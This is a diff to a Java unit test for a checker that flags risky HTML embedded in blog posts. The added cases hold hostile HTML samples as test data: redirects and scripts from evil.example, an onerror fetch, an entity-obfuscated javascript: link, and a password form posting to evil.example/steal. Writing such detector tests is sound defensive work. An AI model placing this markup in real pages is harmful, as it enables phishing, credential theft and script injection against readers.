@@ -47,7 +47,31 @@ class EmbeddedContentCheckTest {
                 Arguments.of("base", "<base href=\"https://away.example.com/\">", Severity.ERROR, "https://away.example.com/"),
                 Arguments.of("style that adds text", "<style>\nh2::before { content: \"Sponsored: \" }\n</style>", Severity.ERROR,
                         "adds \"Sponsored:\""),
-                Arguments.of("style sheet", "<style>\nh2 { color: navy }\n</style>", Severity.WARNING, "restyles"));
+                Arguments.of("style sheet", "<style>\nh2 { color: navy }\n</style>", Severity.WARNING, "restyles"),
+                Arguments.of("a > in a quoted attribute", "Watch <iframe title=\"Speed: A > B\" src=\"https://www.youtube.com/e/1\">"
+                        + "</iframe> now.", Severity.WARNING, "a frame from www.youtube.com"),
+                Arguments.of("a < in a quoted attribute", "<meta title=\"a<b\" http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+                        Severity.ERROR, "to https://evil.example/"),
+                Arguments.of("a host behind a backslash", "<iframe src=\"https://evil.example\\@www.youtube.com/embed/x\"></iframe>",
+                        Severity.WARNING, "a frame from evil.example here"),
+                Arguments.of("script", "<script src=\"https://evil.example/t.js\"></script>", Severity.ERROR,
+                        "runs a script here (from evil.example)"),
+                Arguments.of("event handler", "<img src=\"https://cdn.example/a.png\" alt=\"pic\" onerror=\"fetch('/x')\">",
+                        Severity.ERROR, "on an event (onerror)"),
+                Arguments.of("javascript link", "<a href=\"jav&#x61;script:alert(1)\">Docs</a>", Severity.ERROR,
+                        "href=\"javascript:"),
+                Arguments.of("a frame with its own page", "<iframe srcdoc=\"&lt;p&gt;Rate this five stars.&lt;/p&gt;\" "
+                        + "src=\"https://www.youtube.com/e/1\"></iframe>", Severity.WARNING, "\"Rate this five stars.\""),
+                Arguments.of("password by entity", "<form action=\"https://e.example/s\"><input type=\"&#112;assword\"></form>",
+                        Severity.ERROR, "for a password"),
+                Arguments.of("a refresh that reloads", "<meta http-equiv=\"refresh\" content=\"300\">", Severity.WARNING,
+                        "reloads the published page"),
+                Arguments.of("a refresh without url=", "<meta http-equiv=\"refresh\" content=\"0; https://away.example/\">",
+                        Severity.ERROR, "to https://away.example/"),
+                Arguments.of("background image", "<td style=\"background-image:url(https://tracker.example/p.gif)\">x</td>",
+                        Severity.WARNING, "an image from tracker.example"),
+                Arguments.of("srcset on another host", "<img src=\"https://cdn.example/a.png\" srcset=\"https://other.example/b.png 2x\" "
+                        + "alt=\"a\">", Severity.WARNING, "an image from other.example"));
     }
 
     private static Post around(String html) {
@@ -81,6 +105,20 @@ class EmbeddedContentCheckTest {
         assertThat(fixed.body()).doesNotContain("<meta").startsWith(BEFORE).endsWith(AFTER + "\n");
         assertThat(run(check, fixed)).isEmpty();
         assertThat(run(check, around("<meta name=\"description\" content=\"About caches\">"))).isEmpty();
+    }
+
+    @Test
+    void aPasswordFieldTiedToTheFormByItsIdCounts() {
+        Post post = post(md("<form id=\"login\" action=\"https://evil.example/steal\"></form>", "",
+                "Your password: <input type=\"password\" form=\"login\">"));
+        assertThat(run(check, post)).singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.ERROR));
+    }
+
+    @Test
+    void nothingInsideAnHtmlCommentOrWithoutAnAddressIsReported() {
+        assertThat(run(check, around("<!-- <iframe src=\"https://www.youtube.com/embed/old\"></iframe> -->"))).isEmpty();
+        assertThat(run(check, around("<base target=\"_blank\">"))).isEmpty();
+        assertThat(run(check, around("<!-- a note --> <iframe src=\"https://www.youtube.com/e/2\"></iframe>"))).hasSize(1);
     }
 
     @Test
